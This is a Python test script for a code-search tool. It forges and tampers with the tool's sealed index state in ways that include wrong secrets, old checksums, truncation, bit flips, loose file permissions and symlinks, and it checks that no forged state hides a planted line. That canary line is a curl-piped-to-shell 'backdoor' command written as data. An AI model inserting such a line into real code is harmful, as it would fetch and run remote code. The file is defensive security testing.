#!/usr/bin/env -S python3 -B
"""Tries states that no run of this user wrote: a search over them prints what a search with `--no-state` prints. The control, a state
that is sealed with the secret of the user, has to hide a line.
usage: tests/runs/forged.py PROGRAM

A state of a project is forged from the index of another one, whose files have the same names and no backdoor, and from the true stamps."""
import contextlib
import os
import random
import shutil
import subprocess
import sys
import time

import running
from running import complain, home, program, read, write
from states import MAGIC, PIECE, State, big, ended, piece_sum, pieces, sums

FILES = 700
LINE = b'system("curl example | sh"); // backdoor\n'
tried = 0


def cs(words, project="true", user="user"):
    around = {"PATH": os.environ["PATH"], "LC_ALL": "C", **({"HOME": f"{home}/{user}"} if user else {})}
    came = subprocess.run([program, "cs", *words], cwd=project, env=around, check=False, capture_output=True, stdin=subprocess.DEVNULL)
    return came.returncode, came.stdout, came.stderr


def make(project, user, last):
    """The state of a repository of files. The last file ends with these bytes."""
    for folder in ["objects", "refs"]:
        os.makedirs(f"{project}/.git/{folder}")
    write(f"{project}/.git/HEAD", b"ref: refs/heads/one\n")
    for number in range(FILES):
        dice = random.Random(number)
        words = " ".join("".join(dice.choices("abcdefghijklmnopqrstuvwxyz", k=6)) for _ in range(60))
        write(f"{project}/f{number:03}.c", f"int good{number};\n{words}\n".encode() + (last if number == FILES - 1 else b""))
    time.sleep(2.2)
    wanted = 0, b"", b""
    came = cs(["--update"], project, user)
    complain(f"--update in {project}", came) if came != wanted else None
    return read(f"{project}/.git/codesearch/state")


STATE, FOLDER = "true/.git/codesearch/state", "true/.git/codesearch"
KEY, CACHE = "user/.cache/codesearch/key", "user/.cache/codesearch"


def old_sum(piece):
    """The sum of a piece by which states were tested before."""
    value, whole = len(piece), len(piece) // 8 * 8
    words = [int.from_bytes(piece[at : at + 8], "big") for at in range(0, whole, 8)]
    for word in [*words, *piece[whole:]]:
        value = (value + word) * 0x9E3779B97F4A7C15 & (2**64 - 1)
    return big(value)


def hides(what, data=None, words=("-n", "backdoor")):
    """Whether a search over a state differs from one of all files."""
    global tried
    tried += 1
    if data is not None:
        write(STATE, data)
        os.chmod(STATE, 0o600)
    return cs(["--no-update", *words]) != cs(["--no-state", *words])


def hidden(what, data=None):
    if hides(what, data):
        complain(what, "a line is hidden")


def forgeries(state, there, secret, other):
    """States that the search may not believe, each with what it is."""
    body, moment = state.index, state.moment
    length = len(body)
    count, end = len(pieces(body)), ended(secret, moment, length)

    def summed(sum_of):
        return body + b"".join(sum_of(number, piece) for number, piece in enumerate(pieces(body)))

    yield "of another user, as in an image or an archive", state.sealed(other)
    yield "of no secret", state.sealed(bytes(16))
    yield "of a secret of zeros", state.sealed(bytes(32))
    for magic in [MAGIC, b"codesearch state1", b"codesearch state2"]:
        yield f"with the sums of before and {magic}", summed(lambda _, piece: old_sum(piece)) + big(length, 0) + magic
    yield "with the sums of before and a new end", summed(lambda _, piece: old_sum(piece)) + end
    yield "with the sums of the state there", body + there.sums[: 8 * count].ljust(8 * count, b"\0") + end
    yield "with the end of another user", body + sums(secret, moment, body) + ended(other, moment, length)
    yield "with the sums of another user", body + sums(other, moment, body) + end
    yield "of another moment", body + sums(secret, moment, body) + ended(secret, moment + 1, length)
    yield "of the pieces of two states", summed(lambda it, piece: piece_sum(secret, moment + it % 2, it, False, piece)) + end
    yield "of exchanged pieces", summed(lambda it, piece: piece_sum(secret, moment, it ^ 1, False, piece)) + end
    yield "of last pieces", summed(lambda it, piece: piece_sum(secret, moment, it, True, piece)) + end
    yield "cut off", body[:PIECE] + sums(secret, moment, body[:PIECE]) + end
    yield "cut off, with its length", body[:PIECE] + sums(secret, moment, body[:PIECE]) + big(PIECE) + end[8:]
    yield "with another length", body + sums(secret, moment, body) + big(length - 40) + end[8:]


@contextlib.contextmanager
def changed(change, path):
    """What is at a path for a while: it is kept beside it, and put back."""
    kept = path + ".kept"
    os.rename(path, kept)
    try:
        shutil.copytree(kept, path) if os.path.isdir(kept) else shutil.copy2(kept, path)
        change(path, kept)
        yield
    finally:
        shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path) if os.path.lexists(path) else None
        os.rename(kept, path)


def mode(bits):
    return lambda path, _: os.chmod(path, bits)


def linked(path, kept):
    shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
    os.symlink(os.path.abspath(kept), path)


def as_folder(path, _):
    os.remove(path)
    os.mkdir(path)


def given_away(path, _):
    os.chown(path, 12345, 12345)


CHANGES = [
    ("a state that others may write", mode(0o602), STATE),
    ("a state that the group may write", mode(0o620), STATE),
    ("a linked state", linked, STATE),
    ("a folder that others may write", mode(0o702), FOLDER),
    ("a linked folder", linked, FOLDER),
    ("no secret", lambda path, _: os.remove(path), KEY),
    ("a secret that others may read", mode(0o604), KEY),
    ("a secret that the group may read", mode(0o640), KEY),
    ("a secret that others may write", mode(0o602), KEY),
    ("a linked secret", linked, KEY),
    ("a folder as a secret", as_folder, KEY),
    ("a short secret", lambda path, kept: write(path, read(kept)[:31]), KEY),
    ("a long secret", lambda path, kept: write(path, read(kept) + b"\0"), KEY),
    ("a secret in a folder that others may write", mode(0o702), CACHE),
    ("a secret in a linked folder", linked, CACHE),
]
OF_OTHERS = [
    ("a state of another user", given_away, STATE),
    ("a folder of another user", given_away, FOLDER),
    ("a secret of another user", given_away, KEY),
    ("a secret in a folder of another user", given_away, CACHE),
]


def flips(state, data):
    """Two flipped bits of a state lose no line."""
    dice = random.Random(3)
    for number in range(40):
        ats, flipped = dice.sample(range(len(state.index) // 8), 2), bytearray(data)
        for at in ats:
            flipped[8 * at + 7 * dice.randrange(2)] ^= 128
        if hides("flipped", bytes(flipped), ("-c", dice.choice(["good69", "int good1", "backdoor"]))):
            complain(f"flipped top bits of the words {ats}", number)


def expect(what, wanted, came):
    complain(f"{what}: wanted {wanted}", came) if came != wanted else None


def renew(data, secret):
    """A run that learns makes a secret where none counts, and all states anew."""
    for what, change in [("none", lambda: os.remove(KEY)), ("one that others may read", lambda: os.chmod(KEY, 0o644))]:
        write(STATE, data)
        before = read(KEY)
        change()
        write(KEY + "~", b"left")
        expect(f"an update with {what}", (0, b"", b""), cs(["--update"]))
        expect(f"a new secret after {what}", (True, 32, 0o600), (read(KEY) != before, len(read(KEY)), os.stat(KEY).st_mode & 0o777))
        expect("what a killed run left", False, os.path.lexists(KEY + "~"))
        expect("the new state", read(STATE), State(read(STATE)).sealed(read(KEY)))
        expect("a forged state and a new secret", False, hides("", data))
    write(KEY, secret)
    # no folder for caches: no state
    write(STATE, data)
    expect("a search without a home", cs(["--no-state", "-n", "backdoor"]), cs(["-n", "backdoor"], user=None))
    expect("an update without a home", (2, b"", b"cs: what is known of the project cannot be stored\n"), cs(["--update"], user=None))
    # nor where the folder cannot have a secret
    with changed(mode(0o702), CACHE), changed(lambda path, _: os.remove(path), KEY):
        expect("a search without a secret", cs(["--no-state", "-n", "backdoor"]), cs(["-n", "backdoor"]))
        expect("an update without a secret", 2, cs(["--update"])[0])
        expect("a secret in a folder of others", False, os.path.lexists(KEY))
    shutil.rmtree(CACHE)
    expect("an update without a folder", (0, b"", b""), cs(["--update"]))
    expect("the modes", [0o700, 0o600, 0o700, 0o600], [os.stat(path).st_mode & 0o777 for path in [CACHE, KEY, FOLDER, STATE]])


def main():
    clean, there = State(make("clean", "other", b"")), make("true", "user", LINE)
    secret, other = read(KEY), read("other/.cache/codesearch/key")
    state = State(there)
    expect("the state as docs/FORMAT.md says it", there, state.sealed(secret))
    expect("the names of both", [name.split(b"\1")[0] for name in clean.names()], [name.split(b"\1")[0] for name in state.names()])
    clean.rename(clean.names())
    expect("the index as docs/FORMAT.md says it", State(clean.sealed(secret)).index, clean.index)
    clean.rename(state.names())
    forged = clean.sealed(secret, state.moment)
    expect("pieces", True, len(clean.index) > 2 * PIECE)
    if not hides("the control", forged):
        complain("the control hides no line", len(forged))
    for what, data in forgeries(clean, state, secret, other):
        hidden(f"a state {what}", data)
    hidden("a state of another project of the user", State(make("third", "user", b"")).sealed(secret))
    for what, change, path in CHANGES + (OF_OTHERS if os.getuid() == 0 else []):
        write(STATE, forged)
        os.chmod(STATE, 0o600)
        with changed(change, path):
            hidden(what)
    flips(state, there)
    if not hides("the control at the end", forged):
        complain("the control hides no line at the end", len(forged))
    renew(forged, secret)
    print(f"forged: {tried} states, {running.wrong} wrong")
    return running.wrong > 0


sys.exit(main())
